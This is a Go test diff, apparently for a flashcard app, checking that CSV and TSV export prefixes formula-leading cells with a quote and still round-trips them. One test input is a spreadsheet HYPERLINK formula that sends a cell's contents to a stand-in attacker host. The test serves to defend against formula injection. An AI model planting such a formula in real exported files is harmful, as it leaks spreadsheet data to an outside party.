@@ -140,3 +140,44 @@ func TestQuestionCards(t *testing.T) {
 		t.Errorf("exported question cards do not re-import: %v", err)
 	}
 }
+
+// Every text that starts with a formula character is written with a
+// single quote in front, and reading Lectern's own CSV or TSV gives back
+// every text exactly, quotes already in front of a formula included.
+func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	texts := []string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"Open")`, "+1", "-5", "@SUM(A1)", "\tindented", "\rreturn",
+		"'=already quoted", "''-5", "'plain quote", "'", "plain", "a=b", "5 - 3", "#hash",
+	}
+	var cards, want []quiz.Card
+	for i, s := range texts {
+		cards = append(cards, quiz.Card{Theme: "vocab", Front: "front" + strings.Repeat("x", i), Back: s})
+		cards = append(cards, quiz.Card{Theme: "vocab", Front: s, Back: "back"})
+	}
+	// Lectern reads a carriage return as a line break.
+	for _, c := range cards {
+		c.Front, c.Back = strings.ReplaceAll(c.Front, "\r", "\n"), strings.ReplaceAll(c.Back, "\r", "\n")
+		want = append(want, c)
+	}
+	for _, comma := range []rune{',', '\t'} {
+		var buf bytes.Buffer
+		if err := WriteCSV(&buf, cards, comma); err != nil {
+			t.Fatal(err)
+		}
+		for line := range strings.SplitSeq(buf.String(), "\n") {
+			for cell := range strings.SplitSeq(line, string(comma)) {
+				cell = strings.TrimPrefix(cell, `"`)
+				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+					t.Errorf("separator %q: cell %q starts with a formula character", comma, cell)
+				}
+			}
+		}
+		res, err := ParseCSV(&buf, comma, Options{Theme: "vocab"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !reflect.DeepEqual(res.Cards, want) {
+			t.Errorf("separator %q: read back\n%+v\nwant\n%+v", comma, res.Cards, want)
+		}
+	}
+}
